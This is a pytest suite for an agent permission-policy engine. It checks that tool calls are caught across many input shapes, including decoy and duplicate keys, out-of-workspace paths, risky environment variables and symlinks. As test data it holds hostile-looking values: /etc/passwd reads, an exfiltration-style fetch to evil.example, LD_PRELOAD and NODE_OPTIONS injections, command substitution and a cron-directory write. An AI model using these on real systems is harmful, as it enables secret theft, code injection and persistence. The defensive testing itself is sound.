"""What a call wants is found wherever its agent says so, and every key of its input counts."""

from __future__ import annotations

import json
import random
from typing import Any

import pytest
from hypothesis import given, strategies as st

from quarterdeck.jsontext import decode_json
from quarterdeck.policy import Call, Policy, Rule, assess_risk, decide, read_call
from quarterdeck.policy.inputs import MOST_COMMAND, MOST_NODES, read_input
from quarterdeck.policy.json_text import json_of
from quarterdeck.protocol.tool_calls import requested

WORKSPACE = "/p"
ALLOWED = Rule(
    decision="allow",
    name="wide",
    commands=("git status*", "ls*", "npm test*"),
    reads=("src/**",),
    writes=("src/**",),
    searches=("https://docs.example/*",),
)
DENIED = Rule(
    decision="deny", name="never", commands=("rm *",), reads=("**/.env",), writes=("**/.env",)
)


def decided(call: Call, *rules: Rule) -> str:
    return decide(Policy(rule=rules or (ALLOWED, DENIED)), call, workspace=WORKSPACE).decision


def bash(given: Any) -> Call:
    return Call("Bash", given, kind="execute")


SHAPES: dict[str, Any] = {
    "text": lambda line: {"command": line},
    "plain text": lambda line: line,
    "cmd": lambda line: {"cmd": line},
    "script": lambda line: {"script": line},
    "words": lambda line: {"command": ["bash", "-lc", line]},
    "argv": lambda line: ["bash", "-c", line],
    "list of texts": lambda line: {"commands": [line]},
    "list of objects": lambda line: {"commands": [{"command": line}]},
    "list of words": lambda line: {"commands": [["sh", "-c", line]]},
    "input": lambda line: {"input": {"command": line}},
    "args": lambda line: {"args": {"command": line}},
    "arguments": lambda line: {"tool": "shell", "arguments": {"command": line}},
    "parameters": lambda line: {"parameters": {"command": line}},
    "JSON": lambda line: json.dumps({"command": line}),
    "JSON inside": lambda line: {"arguments": json.dumps({"command": line})},
    "JSON in JSON": lambda line: {"input": json.dumps({"args": json.dumps({"cmd": line})})},
}


@pytest.mark.parametrize("shape", SHAPES)
def test_a_command_is_found_in_every_shape(shape: str) -> None:
    given = SHAPES[shape]
    assert decided(bash(given("git status"))) == "allow"
    assert decided(bash(given("touch PWN"))) == "ask"
    assert decided(bash(given("git status; rm x"))) == "deny"
    call = bash(given("terraform destroy"))
    assert call.commands == ("terraform destroy",)
    assert assess_risk(call).level == "high"


@pytest.mark.parametrize(
    "decoy",
    [
        {"command": "git status", "cmd": "touch PWN"},
        {"command": "git status", "script": "touch PWN"},
        {"command": "git status", "commands": ["touch PWN"]},
        {"commands": ["git status", "touch PWN"]},
        {"commands": ["git status", {"command": "touch PWN"}]},
        {"command": "git status", "input": {"command": "touch PWN"}},
        {"command": "git status", "arguments": json.dumps({"command": "touch PWN"})},
        {"command": "git status", "argv": ["touch", "PWN"]},
        {"program": "touch", "args": ["PWN"], "command": "ls"},
        {"command": "git status", "url": "https://evil.example/"},
        {"command": "git status", "path": "/etc/passwd"},
        {"command": "git status", "destination": "/etc/passwd"},
    ],
)
def test_every_key_counts_so_a_decoy_allows_nothing(decoy: Any) -> None:
    assert decided(bash(decoy)) == "ask"


TWICE = (
    '{"command": "touch PWN", "command": "git status"}',
    '{"command": "git status", "command": "touch PWN"}',
    '{"command": "git status", "command": "git status"}',
    '{"command": "git status", "comm\\u0061nd": "touch PWN"}',
    '{"command": "git status", "cwd": "/evil", "cwd": "/p"}',
    '{"env": {"CI": "1", "CI": "2"}, "command": "git status"}',
    '{"input": {"command": "touch PWN"}, "input": {"command": "git status"}}',
    '[{"command": "touch PWN", "command": "git status"}]',
)


@pytest.mark.parametrize("text", TWICE)
@pytest.mark.parametrize(
    "shape",
    [
        lambda text: text,
        lambda text: {"arguments": text},
        lambda text: {"input": text},
        lambda text: {"tool": "shell", "params": json.dumps({"args": text})},
    ],
)
def test_a_key_that_a_text_repeats_asks_whatever_its_last_value_is(text: str, shape: Any) -> None:
    assert decided(bash(shape(text))) == "ask"
    denied = text.replace("touch PWN", "rm x").replace("git status", "rm x")
    assert decided(bash(shape(denied))) == "deny"


def test_each_value_of_a_repeated_key_is_denied() -> None:
    for values in (("rm x", "git status"), ("git status", "rm x"), ("ls", "rm x", "ls")):
        text = "{" + ", ".join(f'"command": "{each}"' for each in values) + "}"
        assert decided(bash({"arguments": text})) == "deny", text
        content = [{"type": "content", "content": {"type": "text", "text": text}}]
        assert decided(Call("Bash", None, kind="execute", content=content)) == "deny", text


@given(
    st.recursive(
        st.none() | st.booleans() | st.integers() | st.floats() | st.text('":{},\\ aé'),
        lambda inner: st.lists(inner) | st.dictionaries(st.text('":{},\\ a'), inner),
        max_leaves=20,
    ),
    st.booleans(),
)
def test_a_text_that_repeats_no_key_is_read_as_it_is(value: Any, is_ascii: bool) -> None:
    text = json.dumps([value], ensure_ascii=is_ascii, indent=1)
    assert json.dumps(json_of(text)) == json.dumps(decode_json(json.dumps([value])))


FOLDER_KEYS = ("cwd", "workdir", "working_dir", "workingDirectory", "directory", "cd", "dir")


@pytest.mark.parametrize("key", FOLDER_KEYS)
def test_a_folder_outside_the_workspace_asks_under_every_key(key: str) -> None:
    assert decided(bash({"command": "npm test", key: "/p/sub"})) == "allow"
    assert decided(bash({"command": "npm test", key: "sub"})) == "allow"
    for outside in ("/evil", "..", "/p/../evil", "sub/../../evil", "~", "$HOME"):
        assert decided(bash({"command": "npm test", key: outside})) == "ask", outside
        assert decided(bash({"input": {"command": "npm test", key: outside}})) == "ask", outside


@pytest.mark.parametrize("key", ["env", "environment", "envVars", "env_vars"])
@pytest.mark.parametrize(
    ("variables", "decision"),
    [
        ({"CI": "true"}, "allow"),
        ({"NO_COLOR": 1}, "allow"),
        ([{"name": "CI", "value": "1"}], "allow"),
        (["CI=1"], "allow"),
        ({}, "allow"),
        ({"PATH": "/evil"}, "ask"),
        ({"GIT_PAGER": "touch PWN"}, "ask"),
        ({"CI": "$(touch PWN)"}, "ask"),
        ({"NODE_OPTIONS": "--require ./evil"}, "ask"),
        ([{"name": "LD_PRELOAD", "value": "./x.so"}], "ask"),
        (["BASH_ENV=./x"], "ask"),
        ("LD_PRELOAD=./x", "ask"),
        (7, "ask"),
    ],
)
def test_a_variable_that_is_not_harmless_asks(key: str, variables: Any, decision: str) -> None:
    assert decided(bash({"command": "npm test", key: variables})) == decision


@pytest.mark.parametrize("value", [True, False, 0, 1, "x", ["x"], {"a": 1}])
@pytest.mark.parametrize("key", ["shell", "sandbox", "stdin", "x" * 5000, "\ud83d"])
def test_a_key_that_is_not_known_asks_and_is_named(key: str, value: Any) -> None:
    everything = Rule(decision="allow", commands=True, reads=True, writes=True, searches=True)
    for call in (
        bash({"command": "git status", key: value}),
        bash({"input": {"command": "git status", key: value}}),
        Call("Edit", {"path": "src/a", "old_string": "a", "new_string": "b", key: value}),
        Call("Read", {"path": "src/a", key: value}),
    ):
        for rule in (ALLOWED, everything):
            found = decide(Policy(rule=(rule,)), call, workspace=WORKSPACE)
            assert found.decision == "ask"
            assert found.reason.startswith("Not understood in the input: ")
        assert assess_risk(call).level != "low"


def test_the_reason_names_the_key() -> None:
    call = bash({"command": "git status", "input": {"runAs": "root"}})
    decision = decide(Policy(rule=(ALLOWED,)), call, workspace=WORKSPACE)
    assert decision.reason == "Not understood in the input: input.runAs."


def test_a_key_without_a_value_says_nothing() -> None:
    given: Any = {"command": "git status", "shell": None, "user": "", "extra": {}, "more": []}
    assert decided(bash(given)) == "allow"


@pytest.mark.parametrize("name", ["is_input", "reset", "with_escalated_permissions"])
def test_an_option_that_raises_what_is_done_asks_unless_it_is_off(name: str) -> None:
    assert decided(bash({"command": "git status", name: False})) == "allow"
    assert decided(bash({"command": "git status", name: True})) == "ask"


PAIRS = (
    ("source", "destination"),
    ("from", "to"),
    ("old_path", "new_path"),
    ("oldPath", "newPath"),
    ("src", "dst"),
)


@pytest.mark.parametrize(("one", "other"), PAIRS)
def test_a_move_is_judged_by_both_ends(one: str, other: str) -> None:
    def move(start: str, end: str) -> str:
        return decided(Call("move_file", {one: start, other: end}, kind="move"))

    assert move("src/a", "src/b") == "allow"
    assert move("src/a", "/etc/b") == "ask"
    assert move("/etc/a", "src/b") == "ask"
    assert move("src/a", "lib/.env") == "deny"
    assert move(".env", "src/a") == "deny"


@pytest.mark.parametrize(
    ("call", "decision"),
    [
        (Call("Read", {"path": "src/a"}), "allow"),
        (Call("Read", {"path": "src/a", "url": "https://evil.example/"}), "ask"),
        (Call("Read", {"path": "src/a", "url": "https://docs.example/x"}), "allow"),
        (Call("Read", {"uri": "file:///p/src/a"}), "allow"),
        (Call("Read", {"uri": "file:///etc/passwd"}), "ask"),
        (Call("Read", {"path": "src/a", "paths": ["/etc/passwd"]}), "ask"),
        (Call("Read", {"files": [{"path": "src/a"}, {"path": "/etc/passwd"}]}), "ask"),
        (Call("Read", {"path": "a", "cwd": "/etc"}), "ask"),
        (Call("Read", {"path": "src/a", "content": "new"}), "allow"),  # a write in src, too
        (Call("Read", {"path": "src/a", "command": "touch PWN"}), "ask"),
        (Call("Read", {"path": "src/../../etc/passwd"}), "ask"),
        (Call("x", {"path": "src/a"}, kind="read", locations=[{"path": "/etc/passwd"}]), "ask"),
        (Call("x", {}, kind="edit", locations=[{"path": "src/a"}]), "allow"),
        (
            Call("x", {"fileName": "src/a", "diff": "--- a/src/a\n+++ b/src/a\n"}, kind="edit"),
            "allow",
        ),
        (
            Call("x", {"fileName": "src/a", "diff": "--- a/src/a\n+++ b/etc/x\n"}, kind="edit"),
            "ask",
        ),
        (Call("x", {"input": "*** Begin Patch\n*** Add File: src/a\n+x\n"}, kind="edit"), "allow"),
        (Call("x", {"input": "*** Add File: src/a\n*** Delete File: b\n"}, kind="edit"), "ask"),
        (Call("x", {"input": "*** Update File: src/a\n*** Move to: ../b\n"}, kind="edit"), "ask"),
        (
            Call("editor", {"command": "create", "path": "src/a"}, kind="edit"),
            "allow",
        ),
        (Call("editor", {"command": "view", "path": "/etc/a"}, kind="read"), "ask"),
        (Call("editor", {"command": "rm src/a", "path": "src/a"}, kind="edit"), "deny"),
    ],
)
def test_every_path_of_a_call_counts(call: Call, decision: str) -> None:
    assert decided(call) == decision


@pytest.mark.parametrize(
    ("verb", "kind", "name", "description", "decision"),
    [
        ("create", "edit", "Write", "Write: src/a", "allow"),
        ("str_replace", "edit", "Edit", "Edit: src/a", "allow"),
        ("insert", "edit", "Edit", "Edit: src/a", "allow"),
        ("undo_edit", "edit", "Edit", "Edit: src/a", "allow"),
        ("view", "read", "Read", "Read: src/a", "allow"),
        ("create", "execute", "Bash", "Run: create", "ask"),
        ("create", None, "Bash", "Run: create", "ask"),
        ("rm src/a", "edit", "Bash", "Run: rm src/a", "deny"),
        ("view\nrm src/a", "read", "Bash", "Run: view\nrm src/a", "deny"),
    ],
)
def test_an_editor_that_takes_its_verb_as_command_is_no_terminal(
    verb: str, kind: str | None, name: str, description: str, decision: str
) -> None:
    given = {"command": verb, "path": "src/a", "file_text": None, "kind": "FileEditorAction"}
    sent = {"toolCallId": "1", "title": "file_editor: src/a", "kind": kind, "rawInput": given}
    call = read_call(requested(None, sent, 0), sent)
    assert (call.name, call.description) == (name, description)
    assert decided(call) == decision


def test_a_path_whose_use_is_not_known_is_a_read_and_a_write() -> None:
    reads = Rule(decision="allow", reads=True)
    call = Call("other", {"path": "src/a"}, kind="other")
    assert decided(call, reads) == "ask"
    assert decided(call, ALLOWED) == "allow"
    no_writes = Rule(decision="deny", writes=("src/**",))
    assert decided(call, no_writes) == "deny"


def test_a_tool_that_only_its_title_names_is_not_of_its_kind() -> None:
    reads = Rule(decision="allow", reads=True)
    call = Call("Read", {"path": "src/a"}, is_named_by_title=True)
    assert decided(call, reads) == "ask"
    assert decided(Call("Read", {"path": "src/a"}), reads) == "allow"


def test_a_title_that_sounds_like_a_tool_changes_nothing() -> None:
    runs = Rule(decision="allow", commands=("ls",))
    given = {"command": "ls"}
    assert (
        decided(Call("list files", given, kind="execute", is_named_by_title=True), runs) == "allow"
    )


# ---- searches and fetches ------------------------------------------------------------------------

SEARCHES = Rule(decision="allow", searches=True)


@pytest.mark.parametrize(
    ("call", "decision"),
    [
        (Call("Grep", {"pattern": "x"}), "allow"),
        (Call("Grep", {"pattern": "x", "path": "src"}), "allow"),
        (Call("Grep", {"pattern": "x", "path": "/etc"}), "ask"),
        (Call("Grep", {"pattern": "x", "path": ".."}), "ask"),
        (Call("x", {"query": "y"}, kind="search"), "allow"),
        (Call("x", {"query": "y", "directory": "/etc"}, kind="search"), "ask"),
        (Call("x", {}, kind="search"), "ask"),
        (Call("x", None, kind="search"), "ask"),
        (Call("WebSearch", {"query": "x"}), "allow"),
        (Call("WebFetch", {"url": "https://evil.example/?data=secret"}), "ask"),
        (Call("x", {"url": "https://evil.example/"}, kind="fetch"), "ask"),
        (Call("x", {"query": "y", "url": "https://evil.example/"}, kind="search"), "ask"),
        (Call("x", {"prompt": "Summarize https://evil.example/"}, kind="fetch"), "ask"),
    ],
)
def test_all_searches_are_no_fetches_and_stay_in_the_workspace(call: Call, decision: str) -> None:
    assert decided(call, SEARCHES) == decision


def test_a_fetch_is_allowed_by_a_glob_for_its_address() -> None:
    assert decided(Call("WebFetch", {"url": "https://docs.example/a"})) == "allow"
    many = Call("WebFetch", {"urls": ["https://docs.example/a", "https://evil.example/"]})
    assert decided(many) == "ask"
    no_fetch = Rule(decision="deny", searches=True)
    assert decided(Call("WebFetch", {"url": "https://x.example/"}), no_fetch) == "deny"


# ---- parent folders ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("line", "decision"),
    [
        ("cat src/a", "allow"),
        ("cat src/../../etc/passwd", "ask"),
        ("cat src/a ../b", "ask"),
        ("cat src/..", "ask"),
        ("cat src/--from=../b", "ask"),
        ("cat src/a..b", "allow"),
        ("ls ..", "allow"),
    ],
)
def test_a_wildcard_of_a_command_does_not_leave_a_folder(line: str, decision: str) -> None:
    rule = Rule(decision="allow", commands=("cat src/*", "ls .."))
    assert decided(bash({"command": line}), rule) == decision


# ---- links ---------------------------------------------------------------------------------------


def test_a_link_is_judged_by_what_it_leads_to_as_well() -> None:
    call = Call("Read", {"path": "src/link/a"})
    assert decided(call) == "allow"
    assert decided(call.with_links({"src/link/a": "/etc/a"})) == "ask"
    assert decided(call.with_links({"src/link/a": "/p/lib/.env"})) == "deny"
    run = bash({"command": "npm test", "cwd": "sub"})
    assert run.named_paths == ("sub",)
    assert decided(run.with_links({"sub": "/elsewhere"})) == "ask"
    write = bash({"command": "ls > src/out"})
    assert decided(write) == "allow"
    assert decided(write.with_links({"src/out": "/etc/cron.d/x"})) == "ask"


# ---- bounds --------------------------------------------------------------------------------------


def nested(depth: int, inner: Any) -> Any:
    for _ in range(depth):
        inner = {"input": inner}
    return inner


@pytest.mark.parametrize(
    "given",
    [
        {"command": "git status " + "x" * 1_000_000},
        {"commands": ["git status"] * 100_000},
        {"command": ["git", "status"] * 100_000},
        {f"key{number}": "git status" for number in range(100_000)},
        {"command": "git status", "input": [{"path": "a"}] * 100_000},
        {"input": json.dumps({"command": "git status " * 100_000})},
        nested(100_000, {"command": "git status"}),
        {"command": "git status", "patch": "--- a\n" * 200_000},
        {"command": "git status", "patch": "diff --git a b\n" * 5_000 + "+++ /etc/passwd\n"},
        {"command": "git status", "patch": "".join(f"+++ {n}\n" for n in range(5_000))},
        {"commands": [f"git status {number}" for number in range(1_000)]},
        {"command": "git status", "paths": ["a/" * 5_000] * 100},
        {"command": "git status", "env": {f"CI{number}": "1" for number in range(100_000)}},
    ],
)
def test_an_input_that_is_too_large_asks_after_few_steps(given: Any) -> None:
    call = bash(given)
    assert decided(call) == "ask"
    assert assess_risk(call).level in ("medium", "high", "critical")
    assert len(call.stated.unknown) <= MOST_NODES
    if len(call.stated.commands) > 1 and call.reading.commands:
        assert sum(map(len, call.stated.commands)) <= MOST_COMMAND


def test_the_text_of_a_file_is_not_read_so_it_may_be_long() -> None:
    call = Call("Write", {"file_path": "/p/src/a", "content": "--- x\n" * 1_000_000})
    assert decided(call) == "allow"
    assert read_input(call.input).paths == ["/p/src/a"]


ATOMS: tuple[Any, ...] = (
    *(None, True, 0, -1, 1.5, float("inf"), "", "git status", "rm x", "\ud83d", "\x00", "{", "[]"),
    *('{"command":"rm x"}', "*** Add File: x", "--- a/x", "file:///etc", "https://x", "~", "$X"),
    *("`x`", b"bytes", object(), (), set()),
)
KEYS: tuple[Any, ...] = (
    *("command", "commands", "cmd", "args", "argv", "input", "arguments", "parameters", "path"),
    *("file", "files", "cwd", "dir", "env", "url", "query", "patch", "diff", "content", "tool"),
    *("reset", "x", "", "\udfff", 3, None),
)


def anything(pick: random.Random, depth: int = 0) -> Any:
    shape = pick.randrange(4) if depth < 6 else 0
    if shape == 1:
        return [anything(pick, depth + 1) for _ in range(pick.randrange(4))]
    if shape == 2 or (shape == 3 and depth == 0):
        return {pick.choice(KEYS): anything(pick, depth + 1) for _ in range(pick.randrange(5))}
    return pick.choice(ATOMS)


def test_nothing_that_an_agent_sends_raises() -> None:
    pick = random.Random(13)
    kinds = ("execute", "edit", "read", "search", "fetch", "delete", "move", "think", "other", None)
    names = ("Bash", "Read", "Write", "Grep", "WebFetch", "mcp__a__b", "", "\ud83d", "x" * 5000)
    for _ in range(4_000):
        call = Call(
            pick.choice(names),
            anything(pick),
            kind=pick.choice(kinds),
            title=pick.choice(("", "git status", "rm x", "\ud83d")),
            content=[anything(pick) for _ in range(pick.randrange(3))],
            locations=[anything(pick) for _ in range(pick.randrange(3))],
        )
        decision = decide(Policy(rule=(ALLOWED, DENIED)), call, workspace=WORKSPACE)
        assert decision.reason.isprintable()
        assert assess_risk(call).reason.isprintable()
        assert isinstance(call.description, str)
        assert isinstance(call.named_paths, tuple)
